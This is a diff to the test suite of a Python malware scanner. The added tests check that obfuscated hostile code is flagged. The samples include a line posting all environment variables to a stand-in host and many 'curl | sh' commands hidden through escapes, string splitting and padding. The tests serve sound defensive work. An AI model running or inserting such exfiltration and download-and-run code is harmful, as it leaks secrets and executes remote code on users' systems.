@@ -156,18 +156,82 @@ def test_a_module_that_cannot_be_looked_at_may_call_all_of_another(
         "print 'Python 2'\n",
         "import {{ cookiecutter.name }}\n",
         "x = 'unterminated\n",
-        "# \xe9".encode("latin-1"),
+        "x = '\\N{no such letter'\n",
     ],
 )
 def test_what_no_python_parses_is_told_and_refuses_nothing(
-    behaviour: BehaviourScanner, tmp_path: Path, text: str | bytes
+    behaviour: BehaviourScanner, tmp_path: Path, text: str
 ) -> None:
-    content = SENDS.encode() + (text if isinstance(text, bytes) else text.encode())
-
-    (found,) = scan(behaviour, tmp_path, {"sample/data/bad.py": content})
+    (found,) = scan(behaviour, tmp_path, {"sample/data/bad.py": SENDS + text})
 
     assert (found.rule, found.severity) == ("not-python", Severity.INFO)
     assert [(place.path, place.line) for place in found.locations] == [("sample/data/bad.py", 1)]
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "\U00031350 = 1",
+        "x = '\\N{KAWI LETTER A}'",
+        f"x = {'1' * 5000}",
+        f"x = '\\N{{KAWI LETTER A}}{'.' * 9}'",
+    ],
+    ids=["a letter", "the name of one", "a number", "the name of one, and more"],
+)
+def test_what_only_another_python_or_setting_parses_is_not_clean(
+    behaviour: BehaviourScanner, tmp_path: Path, line: str
+) -> None:
+    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": f"{SENDS}{line}\n"})
+
+    assert (found.rule, found.severity) == ("unreadable-code", Severity.HIGH)
+
+
+@pytest.mark.parametrize("comment", [b"# \xff\n", b"x = 1  # Gr\xfc\xdfe\n", b"# caf\xe9"])
+def test_a_comment_in_another_encoding_hides_nothing(
+    behaviour: BehaviourScanner, tmp_path: Path, comment: bytes
+) -> None:
+    (found,) = scan(behaviour, tmp_path, {"sample/__init__.py": SENDS.encode() + comment})
+
+    assert (found.rule, found.severity) == ("sends-secrets", Severity.HIGH)
+
+
+POST = "post('https://a.example', json=dict(os.environ))\n"
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        f"import os, requests as r\nr.{POST}",
+        f"import os; import sys, requests as r\nr.{POST}",
+        f"import os\nimport \\\n  requests as r\nr.{POST}",
+        f"import os\nimport\frequests as r\nr.{POST}",
+        f"import os\nfrom requests.api import *\n{POST}",
+        "import os\nos.system('c\\x75rl -s https://a.example | sh')\n",
+        "import os\nos.system('c\\165rl -s https://a.example | sh')\n",
+        "import os\nos.system('\\N{LATIN SMALL LETTER C}url -s https://a.example | sh')\n",
+        "import os\nos.system('cu' \"rl -s https://a.example | sh\")\n",
+        "import os\nos.system('c' + 'u' +  # it\n   r'rl -s https://a.example | sh')\n",
+        "import os\nos.system('cu''rl -s https://a.example | sh')\n",
+        f"import os\nos.system('cu'  #{'.' * 2000}\n 'rl -s https://a.example | sh')\n",
+        f"# {'-' * 78}\n" * 300
+        + "import os\nos.system(''.join(['cur', 'l https://a.example | sh']))\n",
+    ],
+)
+def test_words_are_read_as_python_reads_them(
+    behaviour: BehaviourScanner, tmp_path: Path, code: str
+) -> None:
+    found = scan(behaviour, tmp_path, {"sample/__init__.py": code})
+
+    assert Severity.HIGH in {each.severity for each in found}
+
+
+def test_looking_for_words_takes_no_longer_than_there_are(
+    behaviour: BehaviourScanner, tmp_path: Path
+) -> None:
+    hostile = ["'#" * 200_000, "import " * 100_000, "'a' " * 100_000, "\\x4" * 100_000]
+    code = "".join(f"# {each}\n" for each in hostile)
+
+    assert scan(behaviour, tmp_path, {"sample/__init__.py": code}) == []
 
 
 def test_code_for_a_newer_python_is_looked_at(behaviour: BehaviourScanner, tmp_path: Path) -> None:
